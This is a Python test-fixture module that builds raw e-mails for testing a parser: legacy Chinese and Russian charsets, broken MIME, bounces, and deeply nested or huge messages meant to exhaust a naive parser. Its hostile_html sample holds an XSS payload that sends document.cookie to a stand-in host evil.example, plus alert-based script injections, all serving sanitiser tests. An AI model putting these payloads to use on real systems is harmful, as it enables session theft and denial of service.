"""Real-looking e-mails, built here byte by byte (nothing is downloaded): what Chinese, Hong
Kong and Russian mail clients send, broken MIME, hostile HTML, auto-replies and bounces, and
the shapes that make a naive parser hang. Each function returns the raw RFC 822 bytes."""

from __future__ import annotations

import base64
import quopri
from email.header import Header

CRLF = b"\r\n"

# Characters GB2312 does not have but GBK (and so gb18030) does: names are full of them.
GBK_ONLY = "镕喆玥堃"
# Hong Kong characters (HKSCS) that plain Big5 does not have.
HKSCS_ONLY = "𨋢咗嘅嚟"


def _b(text: str, charset: str) -> str:
    """An RFC 2047 B-encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def _message(headers: list[str], body: bytes) -> bytes:
    return CRLF.join(h.encode("ascii") for h in headers) + CRLF + CRLF + body


def plain(
    *,
    sender: str = "Alice Wong <alice@example.com>",
    subject: str = "The air conditioner is leaking",
    body: str = "Hello,\r\nwater drips from the indoor unit.\r\n",
    message_id: str = "<plain-1@mail.example.com>",
    extra: list[str] | None = None,
    raw_subject: str = "",
) -> bytes:
    headers = [
        f"From: {sender}",
        "To: Service <service@aftersales.example>",
        f"Subject: {raw_subject or Header(subject, 'utf-8').encode()}",
        f"Message-ID: {message_id}",
        "Date: Mon, 23 Nov 2026 09:15:00 +0800",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        *(extra or []),
    ]
    return _message(headers, body.encode("utf-8"))


def gb2312_with_gbk_characters() -> bytes:
    """Foxmail-style: everything labelled GB2312, the name and text holding GBK-only
    characters; the subject in B-encoded words, the body base64."""
    name = f"王{GBK_ONLY[1]}"
    subject = f"空调漏水，请联系{GBK_ONLY[0]}先生"
    body = f"您好：\r\n我家的空调漏水了。联系人：{GBK_ONLY}。\r\n谢谢！\r\n"
    headers = [
        f"From: {_b(name, 'gbk').replace('gbk', 'gb2312')} <wang@example.cn>",
        "To: service@aftersales.example",
        f"Subject: {_b(subject, 'gbk').replace('gbk', 'GB2312')}",
        "Message-ID: <gb2312-1@foxmail.example>",
        "Date: Mon, 23 Nov 2026 10:00:00 +0800",
        "X-Mailer: Foxmail 7.2",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="gb2312"',
        "Content-Transfer-Encoding: base64",
    ]
    return _message(headers, base64.encodebytes(body.encode("gbk")))


def big5_with_hkscs_characters() -> bytes:
    subject = f"部機壞{HKSCS_ONLY[1]}"
    lift, broken, sound, come = HKSCS_ONLY
    body = f"你好，{lift}唔郁，部冷氣機壞{broken}，{sound}聲好大。請{come}修理。\r\n"
    headers = [
        f"From: {_b('陳大文', 'big5hkscs').replace('big5hkscs', 'big5')} <chan@example.hk>",
        "To: service@aftersales.example",
        f"Subject: {_b(subject, 'big5hkscs').replace('big5hkscs', 'Big5')}",
        "Message-ID: <big5-1@example.hk>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=big5",
        "Content-Transfer-Encoding: 8bit",
    ]
    return _message(headers, body.encode("big5hkscs"))


RUSSIAN = "Здравствуйте! Холодильник перестал морозить, на дверце появился конденсат."


def koi8_r() -> bytes:
    headers = [
        f"From: {_b('Борис Петров', 'koi8-r')} <boris@example.ru>",
        "To: service@aftersales.example",
        f"Subject: {_b('Сломался холодильник', 'koi8-r')}",
        "Message-ID: <koi8-1@example.ru>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=koi8-r",
        "Content-Transfer-Encoding: 8bit",
    ]
    return _message(headers, RUSSIAN.encode("koi8-r") + CRLF)


def windows_1251() -> bytes:
    headers = [
        "From: =?windows-1251?Q?=C0=ED=ED=E0?= <anna@example.ru>",
        "To: service@aftersales.example",
        "Subject: =?windows-1251?Q?=C7=E0=FF=E2=EA=E0_=ED=E0_=F0=E5=EC=EE=ED=F2?=",
        "Message-ID: <cp1251-1@example.ru>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=windows-1251",
        "Content-Transfer-Encoding: quoted-printable",
    ]
    return _message(headers, quopri.encodestring(RUSSIAN.encode("cp1251")))


def utf8_split_encoded_words() -> bytes:
    """A subject whose UTF-8 bytes are split across two encoded words mid-character (some
    mailers do it), with a Q-encoded word next to a B-encoded one."""
    encoded = "请尽快上门维修".encode()
    first, second = encoded[:10], encoded[10:]  # byte 10 is inside a character
    subject = (
        f"=?UTF-8?B?{base64.b64encode(first).decode()}?=\r\n"
        f" =?UTF-8?B?{base64.b64encode(second).decode()}?= =?utf-8?q?=E2=80=94_urgent?="
    )
    return _message(
        [
            "From: =?utf-8?q?Li_Na?= <lina@example.cn>",
            f"Subject: {subject}",
            "Message-ID: <utf8-1@example.cn>",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "正文".encode(),
    )


def unknown_charset() -> bytes:
    """A body labelled with a charset nobody knows, written in GBK."""
    return _message(
        [
            "From: zhao@example.cn",
            "Subject: unknown charset",
            "Message-ID: <unknown-1@example.cn>",
            "Content-Type: text/plain; charset=x-unknown",
        ],
        "洗衣机不能脱水，请派师傅来看看。".encode("gbk"),
    )


def missing_boundary() -> bytes:
    return _message(
        [
            "From: alice@example.com",
            "Subject: no boundary",
            "Message-ID: <noboundary-1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: multipart/mixed",
        ],
        b"--zzz\r\nContent-Type: text/plain\r\n\r\nthe text is still here\r\n--zzz--\r\n",
    )


def truncated() -> bytes:
    """Cut off in the middle of a base64 attachment (a connection that dropped)."""
    return _message(
        [
            "From: alice@example.com",
            "Subject: truncated",
            "Message-ID: <truncated-1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b1"',
        ],
        b"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nsee the photo\r\n"
        b"--b1\r\nContent-Type: image/jpeg; name=photo.jpg\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n/9j/4AAQSkZJRgABAQ",
    )


def hostile_html() -> bytes:
    html = (
        "<html><head><title>t</title><style>p{color:red}</style>"
        "<script>document.location='https://evil.example/?'+document.cookie</script></head>"
        "<body><p>Hello,</p><p>my washer is broken.</p>"
        '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click</a>'
        "<svg><script>alert(3)</script></svg><iframe src=https://evil.example></iframe>"
        "<p>Tom &amp; Jerry &lt;3</p></body></html>"
    )
    return _message(
        [
            "From: Tom <tom@example.com>",
            "Subject: HTML only",
            "Message-ID: <html-1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=utf-8",
        ],
        html.encode(),
    )


def with_attachments(
    *,
    sender: str = "Alice Wong <alice@example.com>",
    subject: str = "Photos of the fault",
    message_id: str = "<attach-1@example.com>",
    size: int = 2048,
    big_size: int = 0,
    in_reply_to: str = "",
) -> bytes:
    """A text and a photo with an RFC 2231 UTF-8 name, a PDF with an RFC 2047 GB2312 name,
    and optionally a file of `big_size` bytes."""
    photo = b"\xff\xd8\xff\xe0" + b"\x00" * (size - 4)
    parts = [
        b"--outer\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the photos.\r\n",
        b"--outer\r\nContent-Type: image/jpeg\r\n"
        b"Content-Disposition: attachment; filename*=UTF-8''%E7%85%A7%E7%89%87%201.jpg\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(photo),
        b'--outer\r\nContent-Type: application/pdf; name="'
        + _b("保修卡.pdf", "gbk").replace("gbk", "gb2312").encode()
        + b'"\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(b"%PDF-1.4\n%%EOF\n"),
    ]
    if big_size:
        parts.append(
            b"--outer\r\nContent-Type: application/zip\r\n"
            b'Content-Disposition: attachment; filename="video.zip"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(b"\x00" * big_size)
        )
    headers = [
        f"From: {sender}",
        f"Subject: {subject}",
        f"Message-ID: {message_id}",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="outer"',
    ]
    if in_reply_to:
        headers.append(f"In-Reply-To: {in_reply_to}")
    return _message(headers, b"".join(parts) + b"--outer--\r\n")


def auto_reply() -> bytes:
    return plain(
        sender="Alice Wong <alice@example.com>",
        subject="Automatic reply: Your request is registered",
        body="I am out of the office until Monday.",
        message_id="<auto-1@example.com>",
        extra=["Auto-Submitted: auto-replied", "X-Autoreply: yes"],
    )


def bounce() -> bytes:
    return _message(
        [
            "From: Mail Delivery System <MAILER-DAEMON@mx.example.com>",
            "To: service@aftersales.example",
            "Subject: Undelivered Mail Returned to Sender",
            "Message-ID: <bounce-1@mx.example.com>",
            "Return-Path: <>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=delivery-status; boundary="r"',
        ],
        b"--r\r\nContent-Type: text/plain\r\n\r\nThe mail system could not deliver it.\r\n"
        b"--r\r\nContent-Type: message/delivery-status\r\n\r\n"
        b"Reporting-MTA: dns; mx.example.com\r\n\r\nFinal-Recipient: rfc822; nobody@example.com\r\n"
        b"Action: failed\r\nStatus: 5.1.1\r\n\r\n--r--\r\n",
    )


def deeply_nested(depth: int) -> bytes:
    body = b""
    for level in range(1, depth):
        body += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level - 1, level)
    body += b"--b%d\r\nContent-Type: text/plain\r\n\r\nthe bottom\r\n" % (depth - 1)
    for level in reversed(range(depth)):
        body += b"--b%d--\r\n" % level
    return _message(
        [
            "From: deep@example.com",
            "Subject: deep",
            f"Message-ID: <deep-{depth}@example.com>",
            "Content-Type: multipart/mixed; boundary=b0",
        ],
        body,
    )


def nested_messages(depth: int) -> bytes:
    """message/rfc822 inside message/rfc822…: no boundaries at all."""
    return _message(
        [
            "From: nested@example.com",
            "Subject: forwarded forwards",
            f"Message-ID: <nested-{depth}@example.com>",
            "Content-Type: message/rfc822",
        ],
        b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: inner\r\n\r\nhi\r\n",
    )


def many_parts(count: int) -> bytes:
    return _message(
        [
            "From: many@example.com",
            "Subject: many parts",
            f"Message-ID: <many-{count}@example.com>",
            "Content-Type: multipart/mixed; boundary=x",
        ],
        b"--x\r\nContent-Type: text/plain\r\n\r\npart\r\n" * count + b"--x--\r\n",
    )


def many_encoded_words(count: int) -> bytes:
    words = "\r\n ".join(["=?utf-8?q?=E4=BD=A0?="] * count)
    return _message(
        [
            "From: words@example.com",
            f"Subject: {words}",
            f"Message-ID: <words-{count}@example.com>",
        ],
        b"body",
    )


def every_sample() -> dict[str, bytes]:
    """The whole gallery, for the stories that must hold for any input."""
    return {
        "plain": plain(),
        "gb2312_gbk": gb2312_with_gbk_characters(),
        "big5_hkscs": big5_with_hkscs_characters(),
        "koi8_r": koi8_r(),
        "windows_1251": windows_1251(),
        "utf8_split_words": utf8_split_encoded_words(),
        "unknown_charset": unknown_charset(),
        "missing_boundary": missing_boundary(),
        "truncated": truncated(),
        "hostile_html": hostile_html(),
        "attachments": with_attachments(),
        "auto_reply": auto_reply(),
        "bounce": bounce(),
        "deep": deeply_nested(3000),
        "nested_messages": nested_messages(3000),
        "many_parts": many_parts(30000),
        "many_words": many_encoded_words(20000),
        "empty": b"",
        "garbage": bytes(range(256)) * 40,
    }
